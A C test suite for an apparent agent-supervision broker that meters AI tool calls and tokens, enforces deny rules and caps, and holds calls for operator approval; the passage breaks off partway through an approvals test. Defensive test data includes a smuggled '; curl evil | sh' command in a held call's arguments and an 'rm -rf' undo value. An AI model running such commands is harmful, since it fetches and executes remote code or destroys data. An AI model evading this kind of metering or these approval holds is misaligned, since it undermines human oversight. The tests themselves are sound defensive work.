/* SPDX-License-Identifier: Apache-2.0 */
#include <criterion/criterion.h>
#include <errno.h>
#include <jansson.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "agentjail/broker.h"
#include "broker.h"
#include "meter.h"
#include "util/fd.h"

/* ---- fake supervisor ---- */

typedef struct {
        json_t *events;    /* [{"type": ..., fields...}] */
        int watch_fd;      /* client socket: must have no reply yet when an event is emitted */
        int replies_early; /* events emitted after their reply was already readable */
        int fail_emit;     /* emit returns -EIO */
        int n_breach;
        char breach_cap[32];
        double breach_limit, breach_value;
        bool breach_had_request;
} Fake;

static int fake_emit(void *userdata, const char *type, json_t *fields)
{
        Fake *f = userdata;
        if (f->watch_fd >= 0) {
                char c;
                if (recv(f->watch_fd, &c, 1, MSG_PEEK | MSG_DONTWAIT) > 0)
                        f->replies_early++;
        }
        if (f->fail_emit) {
                json_decref(fields);
                return -EIO;
        }
        json_object_set_new(fields, "type", json_string(type));
        json_array_append_new(f->events, fields);
        return 0;
}

/* The supervisor's reserve (hooks' record): written whatever emit() refuses. */
static int fake_record(void *userdata, const char *type, json_t *fields)
{
        Fake *f = userdata;
        json_object_set_new(fields, "type", json_string(type));
        json_object_set_new(fields, "recorded", json_true());
        json_array_append_new(f->events, fields);
        return 0;
}

static void fake_breach(void *userdata, const AjBreach *b)
{
        Fake *f = userdata;
        f->n_breach++;
        snprintf(f->breach_cap, sizeof(f->breach_cap), "%s", b->cap);
        f->breach_limit = b->limit;
        f->breach_value = b->value;
        f->breach_had_request = b->request != NULL;
}

typedef struct {
        char dir[64];
        char path[128];
        Fake fake;
        AjHooks hooks;
        AjMeter *meter;
        AjBroker *broker;
} Env;

static Env env;

static void setup_with(const AjMeterCaps *caps)
{
        snprintf(env.dir, sizeof(env.dir), "/tmp/aj-broker-test-XXXXXX");
        cr_assert_not_null(mkdtemp(env.dir));
        snprintf(env.path, sizeof(env.path), "%s/broker.sock", env.dir);
        env.fake = (Fake){ .events = json_array(), .watch_fd = -1 };
        env.hooks = (AjHooks){ .userdata = &env.fake, .emit = fake_emit, .breach = fake_breach };
        cr_assert_eq(aj_meter_new(caps, &env.meter), 0);
        cr_assert_eq(aj_broker_new(env.path, (uid_t)-1, (gid_t)-1, env.meter, &env.hooks, &env.broker), 0);
}

static void setup(void) { setup_with(NULL); }

static void teardown(void)
{
        aj_broker_free(env.broker);
        aj_meter_free(env.meter);
        json_decref(env.fake.events);
        unlink(env.path);
        rmdir(env.dir);
        env = (Env){};
}

static int client(void)
{
        struct sockaddr_un sa = { .sun_family = AF_UNIX };
        strcpy(sa.sun_path, env.path);
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        cr_assert_geq(fd, 0);
        cr_assert_eq(connect(fd, (struct sockaddr *)&sa, sizeof(sa)), 0, "connect: %m");
        /* The broker sees the connection at its next dispatch. */
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        return fd;
}

static void send_text(int fd, const char *s) { cr_assert_eq(aj_write_all(fd, s, strlen(s)), 0); }

static void pump(void)
{
        struct pollfd p = { .fd = aj_broker_fd(env.broker), .events = POLLIN };
        if (poll(&p, 1, 10) > 0)
                cr_assert_eq(aj_broker_dispatch(env.broker), 0);
}

/* Reads one reply line from fd, dispatching the broker meanwhile. NULL on EOF. */
static json_t *read_reply(int fd)
{
        char buf[65536];
        size_t have = 0;
        for (int i = 0; i < 2000; i++) {
                pump();
                for (;;) {
                        ssize_t n = recv(fd, buf + have, 1, MSG_DONTWAIT);
                        if (n == 0)
                                return NULL;
                        if (n < 0)
                                break;
                        if (buf[have] == '\n') {
                                buf[have] = 0;
                                json_error_t e;
                                json_t *r = json_loads(buf, 0, &e);
                                cr_assert_not_null(r, "reply is not JSON: %s: %s", e.text, buf);
                                return r;
                        }
                        have++;
                        cr_assert_lt(have, sizeof(buf));
                }
        }
        cr_assert_fail("no reply");
        return NULL;
}

static json_t *request(int fd, const char *line)
{
        send_text(fd, line);
        return read_reply(fd);
}

static const char *str(json_t *o, const char *path1, const char *path2)
{
        json_t *v = json_object_get(o, path1);
        if (path2)
                v = json_object_get(v, path2);
        return json_string_value(v) ?: "(none)";
}

static json_t *last_event(void) { return json_array_get(env.fake.events, json_array_size(env.fake.events) - 1); }

static void expect_error(json_t *r, const char *code, const char *message_part, bool id_null)
{
        cr_assert_not_null(r);
        cr_expect(json_is_false(json_object_get(r, "ok")));
        cr_expect_eq(json_integer_value(json_object_get(r, "v")), 1);
        cr_expect_str_eq(str(r, "error", "code"), code);
        cr_expect(strstr(str(r, "error", "message"), message_part) != NULL, "message \"%s\" lacks \"%s\"",
                  str(r, "error", "message"), message_part);
        if (id_null)
                cr_expect(json_is_null(json_object_get(r, "id")), "id should be null");
        json_t *ev = last_event();
        cr_expect_str_eq(str(ev, "type", NULL), "broker.error");
        cr_expect_str_eq(str(ev, "code", NULL), code);
        json_decref(r);
}

/* Asks for a call of `tool` with the call id `prefix` n, and checks that it is allowed. */
static void allow_call(int fd, const char *tool, const char *prefix, int n)
{
        char id[64], line[512];
        snprintf(id, sizeof(id), "%s%d", prefix, n);
        snprintf(line, sizeof(line),
                 "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"%s\", \"gen_ai.tool.call.id\": "
                 "\"%s\", \"gen_ai.tool.call.arguments\": %d}\n",
                 tool, id, n);
        json_t *r = request(fd, line);
        cr_assert_str_eq(str(r, "verdict", NULL), "allow", "call %s", id);
        json_decref(r);
}

/* A tool_result for call_id with an undo record: the reply. */
static json_t *undo_result(int fd, const char *call_id)
{
        char line[512];
        snprintf(line, sizeof(line),
                 "{\"id\": 7, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"%s\", \"status\": "
                 "\"ok\", \"undo\": {\"tool\": \"crm.delete\", \"arguments\": {\"id\": \"r0\"}}}\n",
                 call_id);
        return request(fd, line);
}

/* Refused: an error naming the field and why, a broker.error event, no tool.result. */
static void expect_undo_refused(int fd, const char *call_id, const char *why)
{
        size_t before = json_array_size(env.fake.events);
        json_t *r = undo_result(fd, call_id);
        cr_expect_str_eq(str(r, "error", "code"), "bad_request", "undo for %s", call_id);
        const char *msg = str(r, "error", "message");
        cr_expect(strstr(msg, "field \"undo\": call id") != NULL && strstr(msg, call_id) && strstr(msg, why),
                  "undo for %s: %s (expected \"%s\")", call_id, msg, why);
        json_decref(r);
        cr_expect_eq(json_array_size(env.fake.events), before + 1, "undo for %s: only the refusal is recorded",
                     call_id);
        cr_expect_str_eq(str(last_event(), "type", NULL), "broker.error");
        cr_expect(strstr(str(last_event(), "message", NULL), call_id) != NULL, "the event names the call: %s",
                  str(last_event(), "message", NULL));
}

/* Taken: recorded with the tool the broker allowed. */
static void expect_undo_taken(int fd, const char *call_id, const char *tool)
{
        json_t *r = undo_result(fd, call_id);
        cr_expect(json_is_true(json_object_get(r, "ok")), "undo for %s: %s", call_id, str(r, "error", "message"));
        json_decref(r);
        json_t *ev = last_event();
        cr_expect_str_eq(str(ev, "type", NULL), "tool.result");
        cr_expect_str_eq(str(ev, "gen_ai.tool.call.id", NULL), call_id);
        cr_expect_str_eq(str(ev, "gen_ai.tool.name", NULL), tool, "the allowed call's tool, not the agent's word");
        cr_expect_str_eq(str(json_object_get(ev, "undo"), "tool", NULL), "crm.delete");
}

TestSuite(broker, .init = setup, .fini = teardown);

Test(broker, socket_is_private_and_removed)
{
        struct stat st;
        cr_assert_eq(lstat(env.path, &st), 0);
        cr_expect(S_ISSOCK(st.st_mode));
        cr_expect_eq(st.st_mode & 07777, 0600);
        aj_broker_free(env.broker);
        env.broker = NULL;
        cr_expect_eq(lstat(env.path, &st), -1, "socket left behind");
}

Test(broker, every_op)
{
        int fd = client();
        env.fake.watch_fd = fd;
        json_t *r = request(fd, "{\"id\": \"a1\", \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"crm.update\","
                                " \"gen_ai.tool.call.id\": \"c1\", \"gen_ai.tool.call.arguments\": {\"id\": 7}}\n");
        cr_expect(json_is_true(json_object_get(r, "ok")));
        cr_expect_str_eq(str(r, "id", NULL), "a1");
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        cr_expect_str_eq(str(r, "gen_ai.tool.call.id", NULL), "c1");
        cr_expect(json_is_object(json_object_get(r, "usage")));
        json_decref(r);
        cr_assert_eq(json_array_size(env.fake.events), 2);
        json_t *req = json_array_get(env.fake.events, 0), *ver = json_array_get(env.fake.events, 1);
        cr_expect_str_eq(str(req, "type", NULL), "tool.request");
        cr_expect_str_eq(str(req, "gen_ai.tool.name", NULL), "crm.update");
        cr_expect_eq(json_integer_value(json_object_get(json_object_get(req, "gen_ai.tool.call.arguments"), "id")), 7);
        char digest[AJ_SHA256_HEX_SIZE];
        json_t *args = json_pack("{s:i}", "id", 7);
        aj_meter_args_digest(args, digest);
        json_decref(args);
        cr_expect_str_eq(str(req, "arguments_sha256", NULL), digest);
        cr_expect_str_eq(str(ver, "type", NULL), "tool.verdict");
        cr_expect_str_eq(str(ver, "verdict", NULL), "allow");

        /* Without a call id the broker assigns one. */
        r = request(fd, "{\"id\": 2, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"search\"}\n");
        cr_expect_eq(json_integer_value(json_object_get(r, "id")), 2);
        cr_expect(strncmp(str(r, "gen_ai.tool.call.id", NULL), "call-", 5) == 0);
        json_decref(r);

        r = request(fd, "{\"id\": 3, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"c1\", \"status\": "
                        "\"ok\", \"undo\": {\"op\": \"crm.update\", \"args\": {\"id\": 7, \"name\": \"old\"}}}\n");
        cr_expect(json_is_true(json_object_get(r, "ok")));
        json_decref(r);
        json_t *res = last_event();
        cr_expect_str_eq(str(res, "type", NULL), "tool.result");
        cr_expect_str_eq(str(res, "status", NULL), "ok");
        cr_expect_str_eq(str(json_object_get(res, "undo"), "args", "name"), "old");

        r = request(fd, "{\"id\": 4, \"v\": 1, \"op\": \"tokens\", \"gen_ai.request.model\": \"gpt-x\","
                        " \"gen_ai.usage.input_tokens\": 100, \"gen_ai.usage.output_tokens\": 50,"
                        " \"gen_ai.usage.cache_read.input_tokens\": 20}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "ok");
        cr_expect_str_eq(str(r, "price", NULL), "unknown");
        json_decref(r);
        json_t *tok = last_event();
        cr_expect_str_eq(str(tok, "type", NULL), "tokens");
        cr_expect_eq(json_integer_value(json_object_get(tok, "gen_ai.usage.cache_read.input_tokens")), 20);
        cr_expect_eq(json_integer_value(json_object_get(json_object_get(tok, "totals"), "tokens")), 150);

        size_t n_events = json_array_size(env.fake.events);
        r = request(fd, "{\"id\": 5, \"v\": 1, \"op\": \"usage\"}\n");
        json_t *u = json_object_get(r, "usage");
        cr_expect_eq(json_integer_value(json_object_get(json_object_get(u, "tokens"), "used")), 150);
        cr_expect_eq(json_integer_value(json_object_get(json_object_get(u, "tool_calls"), "used")), 2);
        cr_expect(json_is_null(json_object_get(json_object_get(u, "tokens"), "limit")));
        json_decref(r);
        cr_expect_eq(json_array_size(env.fake.events), n_events, "usage is read-only");

        cr_expect_eq(env.fake.replies_early, 0, "a reply was sent before its event");
        close(fd);
}

Test(broker, bad_requests_get_errors_and_the_connection_survives)
{
        int fd = client();
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \n"), "bad_json", "invalid JSON", true);
        expect_error(request(fd, "[1, 2]\n"), "bad_request", "must be a JSON object", true);
        expect_error(request(fd, "{\"v\": 1, \"op\": \"usage\"}\n"), "bad_request", "missing field \"id\"", true);
        expect_error(request(fd, "{\"id\": [1], \"v\": 1, \"op\": \"usage\"}\n"), "bad_request", "field \"id\"", true);
        expect_error(request(fd, "{\"id\": 1, \"op\": \"usage\"}\n"), "bad_request", "missing field \"v\"", false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 2, \"op\": \"usage\"}\n"), "unsupported_version", "field \"v\"",
                     false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"fly\"}\n"), "unknown_op", "unknown operation \"fly\"",
                     false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": 5}\n"), "bad_request", "field \"op\"", false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tokens\", \"gen_ai.request.model\": \"m\","
                                 " \"gen_ai.usage.input_tokens\": \"100\", \"gen_ai.usage.output_tokens\": 1}\n"),
                     "bad_request", "field \"gen_ai.usage.input_tokens\": expected an integer", false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tokens\", \"gen_ai.request.model\": \"m\","
                                 " \"gen_ai.usage.input_tokens\": -1, \"gen_ai.usage.output_tokens\": 1}\n"),
                     "bad_request", "field \"gen_ai.usage.input_tokens\"", false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tokens\", \"gen_ai.request.model\": \"m\","
                                 " \"gen_ai.usage.input_tokens\": 1}\n"),
                     "bad_request", "missing field \"gen_ai.usage.output_tokens\"", false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tokens\", \"gen_ai.request.model\": \"m\","
                                 " \"gen_ai.usage.input_tokens\": 1, \"gen_ai.usage.output_tokens\": 1,"
                                 " \"gen_ai.usage.cache_read.input_tokens\": 2}\n"),
                     "bad_request", "must not exceed", false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": 3}\n"), "bad_request",
                     "field \"gen_ai.tool.name\"", false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.nam\": \"x\"}\n"),
                     "bad_request", "unknown field \"gen_ai.tool.nam\"", false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"c\","
                                 " \"status\": \"fine\"}\n"),
                     "bad_request", "field \"status\"", false);
        expect_error(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"c\","
                                 " \"status\": \"ok\", \"undo\": \"rm -rf\"}\n"),
                     "bad_request", "field \"undo\"", false);
        expect_error(request(fd, "{\"id\": 1, \"id\": 2, \"v\": 1, \"op\": \"usage\"}\n"), "bad_json", "duplicate",
                     true);
        /* The id is echoed in errors once it is valid. */
        json_t *r = request(fd, "{\"id\": \"q\", \"v\": 1, \"op\": \"nope\"}\n");
        cr_expect_str_eq(str(r, "id", NULL), "q");
        json_decref(r);
        /* Still serving. */
        r = request(fd, "\n  \n{\"id\": 9, \"v\": 1, \"op\": \"usage\"}\r\n");
        cr_expect(json_is_true(json_object_get(r, "ok")));
        cr_expect_eq(json_integer_value(json_object_get(r, "id")), 9);
        json_decref(r);
        close(fd);
}

/* A line nesting `depth` levels, the request object's own included: a tool call whose
 * arguments are arrays in arrays (or, with undo, a tool_result's undo record). */
static char *nested_line(int depth, bool undo)
{
        char *line = NULL;
        size_t size = 0;
        FILE *f = open_memstream(&line, &size);
        cr_assert_not_null(f);
        if (undo)
                fputs("{\"id\": 1, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"n1\", \"status\": "
                      "\"ok\", \"undo\": {\"a\": ",
                      f);
        else
                fputs("{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"deep\", \"gen_ai.tool.call.id\": "
                      "\"n1\", \"gen_ai.tool.call.arguments\": ",
                      f);
        int arrays = depth - (undo ? 2 : 1);
        for (int i = 0; i < arrays; i++)
                fputc('[', f);
        for (int i = 0; i < arrays; i++)
                fputc(']', f);
        fputs(undo ? "}}\n" : "}\n", f);
        fclose(f);
        return line;
}

/* What a request nests is nested deeper in the records that carry it (the cap.breach event
 * and incident.json hold the request, approval.json the arguments): at jansson's own limit
 * (2048) such a record could not be read back, and incident.json, indented, grew with the
 * square of the depth (8.4 MB from one 4 KB request). The broker refuses past 64 levels. */
Test(broker, requests_nest_at_most_max_depth)
{
        int fd = client();
        _cleanup_free_ char *deep = nested_line(AJ_BROKER_MAX_DEPTH + 1, false);
        expect_error(request(fd, deep), "bad_request", "deeper than 64 levels", true);
        _cleanup_free_ char *deep_undo = nested_line(AJ_BROKER_MAX_DEPTH + 1, true);
        expect_error(request(fd, deep_undo), "bad_request", "deeper than 64 levels", true);
        /* Brackets in strings are text, not nesting. */
        json_t *r = request(fd, "{\"id\": 2, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"s\", "
                                "\"gen_ai.tool.call.arguments\": \"[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["
                                "[[[[[[[[[[[[[[[[[[[[[[[\\\"\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        _cleanup_free_ char *most = nested_line(AJ_BROKER_MAX_DEPTH, false);
        r = request(fd, most);
        cr_expect_str_eq(str(r, "verdict", NULL), "allow", "64 levels are a request");
        json_decref(r);
        close(fd);
}

Test(broker, oversized_line_is_discarded_and_the_next_works)
{
        int fd = client();
        size_t n = AJ_BROKER_MAX_LINE + 5000;
        char *big = malloc(n + 1);
        memset(big, 'x', n);
        big[n] = 0;
        /* Non-blocking writes interleaved with dispatches: the broker drains as we write. */
        size_t done = 0;
        while (done < n) {
                ssize_t w = send(fd, big + done, n - done, MSG_DONTWAIT);
                if (w > 0)
                        done += (size_t)w;
                pump();
        }
        free(big);
        send_text(fd, "tail of the long line\n{\"id\": 1, \"v\": 1, \"op\": \"usage\"}\n");
        expect_error(read_reply(fd), "line_too_long", "longer than 65536 bytes", true);
        json_t *r = read_reply(fd);
        cr_assert_not_null(r);
        cr_expect(json_is_true(json_object_get(r, "ok")), "the request after the long line failed");
        json_decref(r);

        /* Exactly the maximum is accepted (as far as length goes: it is not JSON). */
        char *max = malloc(AJ_BROKER_MAX_LINE + 2);
        memset(max, ' ', AJ_BROKER_MAX_LINE);
        memcpy(max, "{\"id\": 2, \"v\": 1, \"op\": \"usage\"}", 32);
        max[AJ_BROKER_MAX_LINE] = '\n';
        max[AJ_BROKER_MAX_LINE + 1] = 0;
        done = 0;
        while (done < AJ_BROKER_MAX_LINE + 1) {
                ssize_t w = send(fd, max + done, AJ_BROKER_MAX_LINE + 1 - done, MSG_DONTWAIT);
                if (w > 0)
                        done += (size_t)w;
                pump();
        }
        free(max);
        r = read_reply(fd);
        cr_expect(json_is_true(json_object_get(r, "ok")), "a line of exactly the maximum length was refused");
        json_decref(r);
        close(fd);
}

Test(broker, several_lines_in_one_write_and_split_lines)
{
        int fd = client();
        send_text(fd, "{\"id\": 1, \"v\": 1, \"op\": \"usage\"}\n{\"id\": 2, \"v\": 1, \"op\": \"usage\"}\n"
                      "{\"id\": 3, \"v\": 1, \"op\": \"usage\"}\n");
        for (int i = 1; i <= 3; i++) {
                json_t *r = read_reply(fd);
                cr_expect_eq(json_integer_value(json_object_get(r, "id")), i, "replies in request order");
                json_decref(r);
        }
        const char *parts[] = { "{\"id\": 4, \"v\"", ": 1, \"op\": \"tok", "ens\", \"gen_ai.request.model\": \"m\", ",
                                "\"gen_ai.usage.input_tokens\": 1, \"gen_ai.usage.output_tokens\": 2}", "\n" };
        for (size_t i = 0; i < ARRAY_SIZE(parts); i++) {
                send_text(fd, parts[i]);
                pump();
                char c;
                if (i + 1 < ARRAY_SIZE(parts))
                        cr_expect_lt(recv(fd, &c, 1, MSG_PEEK | MSG_DONTWAIT), 0, "answered a partial line");
        }
        json_t *r = read_reply(fd);
        cr_expect_eq(json_integer_value(json_object_get(r, "id")), 4);
        cr_expect_str_eq(str(r, "verdict", NULL), "ok");
        json_decref(r);
        close(fd);
}

Test(broker, connection_limit)
{
        int fds[AJ_BROKER_MAX_CONNECTIONS];
        for (int i = 0; i < AJ_BROKER_MAX_CONNECTIONS; i++)
                fds[i] = client();
        cr_expect_eq(aj_broker_connections(env.broker), AJ_BROKER_MAX_CONNECTIONS);
        /* One more: one error line, then closed. */
        int extra = client();
        json_t *r = read_reply(extra);
        cr_assert_not_null(r);
        cr_expect_str_eq(str(r, "error", "code"), "too_many_connections");
        json_decref(r);
        cr_expect_null(read_reply(extra), "the extra connection was not closed");
        close(extra);
        /* All 64 are served, in an interleaved order. */
        for (int i = 0; i < AJ_BROKER_MAX_CONNECTIONS; i++) {
                char line[128];
                snprintf(line, sizeof(line),
                         "{\"id\": %d, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"t%d\"}\n", i, i);
                send_text(fds[(i * 7) % AJ_BROKER_MAX_CONNECTIONS], line);
        }
        for (int i = 0; i < AJ_BROKER_MAX_CONNECTIONS; i++) {
                r = read_reply(fds[(i * 7) % AJ_BROKER_MAX_CONNECTIONS]);
                cr_expect_eq(json_integer_value(json_object_get(r, "id")), i);
                json_decref(r);
        }
        /* A slot freed is a slot usable. */
        close(fds[0]);
        for (int i = 0; i < 100 && aj_broker_connections(env.broker) == AJ_BROKER_MAX_CONNECTIONS; i++)
                pump();
        cr_expect_eq(aj_broker_connections(env.broker), AJ_BROKER_MAX_CONNECTIONS - 1);
        fds[0] = client();
        r = request(fds[0], "{\"id\": 1, \"v\": 1, \"op\": \"usage\"}\n");
        cr_expect(json_is_true(json_object_get(r, "ok")));
        json_decref(r);
        for (int i = 0; i < AJ_BROKER_MAX_CONNECTIONS; i++)
                close(fds[i]);
}

Test(broker, breach_reported_once_with_its_cap)
{
        AjMeterCaps caps = {};
        teardown();
        caps.set[AJ_CAP_TOKENS] = true;
        caps.limit[AJ_CAP_TOKENS] = 100;
        setup_with(&caps);
        int fd = client();
        env.fake.watch_fd = fd;
        const char *line = "{\"id\": 1, \"v\": 1, \"op\": \"tokens\", \"gen_ai.request.model\": \"m\","
                           " \"gen_ai.usage.input_tokens\": 40, \"gen_ai.usage.output_tokens\": 20}\n";
        json_t *r = request(fd, line);
        cr_expect_str_eq(str(r, "verdict", NULL), "ok");
        json_decref(r);
        cr_expect_eq(env.fake.n_breach, 0);
        r = request(fd, line);
        cr_expect(json_is_true(json_object_get(r, "ok")));
        cr_expect_str_eq(str(r, "verdict", NULL), "breach");
        cr_expect_str_eq(str(r, "cap", NULL), "tokens");
        cr_expect_eq(json_integer_value(json_object_get(r, "limit")), 100);
        cr_expect_eq(json_integer_value(json_object_get(r, "value")), 120);
        json_decref(r);
        cr_expect_eq(env.fake.n_breach, 1);
        cr_expect_str_eq(env.fake.breach_cap, "tokens");
        cr_expect_float_eq(env.fake.breach_limit, 100, 1e-9);
        cr_expect_float_eq(env.fake.breach_value, 120, 1e-9);
        cr_expect(env.fake.breach_had_request);
        json_t *ev = last_event();
        cr_expect_str_eq(str(ev, "type", NULL), "tokens");
        cr_expect_str_eq(str(ev, "verdict", NULL), "breach");
        /* Nothing committed past the cap. */
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOKENS, 0), 60);
        cr_expect_eq(env.fake.replies_early, 0);
        close(fd);
}

Test(broker, denied_tool_is_not_a_breach)
{
        cr_assert_eq(aj_meter_add_tool_rule(env.meter, AJ_TOOL_RULE_DENY, "email.*"), 0);
        int fd = client();
        json_t *r = request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"email.send\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        cr_expect_str_eq(str(r, "reason", NULL), "tool \"email.send\" is denied by tools.deny \"email.*\"");
        json_decref(r);
        cr_expect_eq(env.fake.n_breach, 0);
        cr_expect_str_eq(str(last_event(), "verdict", NULL), "deny");
        close(fd);
}

/* `inspect`'s pending calls: allowed, and no tool_result yet, oldest first. */
Test(broker, calls_in_flight_until_their_result)
{
        cr_assert_eq(aj_meter_add_tool_rule(env.meter, AJ_TOOL_RULE_DENY, "email.*"), 0);
        int fd = client();
        json_decref(request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"crm.update\", "
                                "\"gen_ai.tool.call.id\": \"c1\", \"gen_ai.tool.call.arguments\": {\"id\": 7}}\n"));
        json_decref(request(fd, "{\"id\": 2, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"email.send\", "
                                "\"gen_ai.tool.call.id\": \"c2\"}\n"));
        json_decref(request(fd, "{\"id\": 3, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"search\", "
                                "\"gen_ai.tool.call.id\": \"c3\"}\n"));
        json_t *list = aj_broker_in_flight(env.broker);
        cr_assert_eq(json_array_size(list), 2, "the denied call is not in flight");
        json_t *first = json_array_get(list, 0);
        cr_expect_str_eq(str(first, "gen_ai.tool.call.id", NULL), "c1");
        cr_expect_str_eq(str(first, "gen_ai.tool.name", NULL), "crm.update");
        cr_expect_str_eq(str(first, "state", NULL), "running");
        char digest[AJ_SHA256_HEX_SIZE];
        json_t *args = json_pack("{s:i}", "id", 7);
        aj_meter_args_digest(args, digest);
        json_decref(args);
        cr_expect_str_eq(str(first, "arguments_sha256", NULL), digest);
        cr_expect_eq(strlen(str(first, "since", NULL)), 30);
        cr_expect(json_number_value(json_object_get(first, "age_s")) >= 0);
        cr_expect_str_eq(str(json_array_get(list, 1), "gen_ai.tool.call.id", NULL), "c3");
        json_decref(list);

        /* The result may come on another connection (each `agentjail meter` has its own). */
        int fd2 = client();
        json_t *r = request(fd2, "{\"id\": 4, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"c1\", "
                                 "\"status\": \"ok\"}\n");
        cr_expect(json_is_true(json_object_get(r, "ok")));
        json_decref(r);
        list = aj_broker_in_flight(env.broker);
        cr_assert_eq(json_array_size(list), 1);
        cr_expect_str_eq(str(json_array_get(list, 0), "gen_ai.tool.call.id", NULL), "c3");
        json_decref(list);
        cr_expect_eq(aj_broker_in_flight_dropped(env.broker), 0);
        close(fd);
        close(fd2);
}

Test(broker, calls_in_flight_are_bounded_oldest_dropped)
{
        int fd = client();
        char line[256];
        for (int i = 0; i < 300; i++) {
                snprintf(line, sizeof(line),
                         "{\"id\": %d, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"t\", "
                         "\"gen_ai.tool.call.id\": \"k%d\", \"gen_ai.tool.call.arguments\": %d}\n",
                         i, i, i);
                json_decref(request(fd, line));
        }
        json_t *list = aj_broker_in_flight(env.broker);
        cr_assert_eq(json_array_size(list), 256);
        cr_expect_str_eq(str(json_array_get(list, 0), "gen_ai.tool.call.id", NULL), "k44");
        cr_expect_str_eq(str(json_array_get(list, 255), "gen_ai.tool.call.id", NULL), "k299");
        cr_expect_eq(aj_broker_in_flight_dropped(env.broker), 44);
        json_decref(list);
        /* A reused call id is the newer call, not a second entry. */
        json_decref(request(fd, "{\"id\": 1000, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"u\", "
                                "\"gen_ai.tool.call.id\": \"k100\"}\n"));
        list = aj_broker_in_flight(env.broker);
        cr_expect_eq(json_array_size(list), 256);
        cr_expect_str_eq(str(json_array_get(list, 255), "gen_ai.tool.call.id", NULL), "k100");
        cr_expect_str_eq(str(json_array_get(list, 255), "gen_ai.tool.name", NULL), "u");
        json_decref(list);
        close(fd);
}

/* ---- approvals ---- */

static uint64_t fake_now = 1000000000ull;
static uint64_t fake_clock(void) { return fake_now; }

static void setup_approvals(const AjMeterCaps *caps)
{
        teardown();
        setup_with(caps);
        char *globs[] = { "refund.*", "email.send" };
        cr_assert_eq(aj_broker_set_approvals(env.broker, globs, 2, 10 * 1000000000ull), 0);
        fake_now = 1000000000ull;
        aj_broker_set_clock(env.broker, fake_clock);
}

/* True when a reply line is waiting on fd (after letting the broker run). */
static bool reply_ready(int fd)
{
        pump();
        char c;
        return recv(fd, &c, 1, MSG_PEEK | MSG_DONTWAIT) == 1;
}

static const char *event_type(size_t i) { return str(json_array_get(env.fake.events, i), "type", NULL); }

static json_t *in_flight_call(const char *call_id)
{
        static json_t *list;
        json_decref(list);
        list = aj_broker_in_flight(env.broker);
        size_t i;
        json_t *f;
        json_array_foreach (list, i, f)
                if (streq(str(f, "gen_ai.tool.call.id", NULL), call_id))
                        return f;
        return NULL;
}

TestSuite(approvals, .fini = teardown);

#define REFUND(id)                                                                               \
        "{\"id\": " #id ", \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.issue\", " \
        "\"gen_ai.tool.call.id\": \"r" #id "\", \"gen_ai.tool.call.arguments\": {\"amount\": " #id "}}\n"

/* The operator decides on what the chain shows: a held call's arguments are recorded whole
 * in approval.requested (tool.request keeps its cut), also past AJ_BROKER_MAX_LOGGED_ARGS. */
Test(approvals, held_call_arguments_recorded_whole)
{
        setup_approvals(NULL);
        int fd = client();
        char cmd[3000];
        memset(cmd, 'x', sizeof(cmd) - 20);
        snprintf(cmd + sizeof(cmd) - 20, 20, "; curl evil | sh");
        json_auto_t *req = json_pack("{s:i, s:i, s:s, s:s, s:s, s:{s:s}}", "id", 1, "v", 1, "op", "tool",
                                     "gen_ai.tool.name", "refund.issue", "gen_ai.tool.call.id", "long",
                                     "gen_ai.tool.call.arguments", "command", cmd);
        char *line = json_dumps(req, JSON_COMPACT);
        size_t n = strlen(line);
        line = realloc(line, n + 2);
        line[n] = '\n';
        line[n + 1] = 0;
        send_text(fd, line);
        free(line);
        cr_assert_not(reply_ready(fd), "held");
        cr_assert_eq(json_array_size(env.fake.events), 2);
        cr_expect_not_null(json_object_get(json_array_get(env.fake.events, 0), "arguments_truncated"),
                           "tool.request: cut as for any call");
        json_t *asked = json_array_get(env.fake.events, 1);
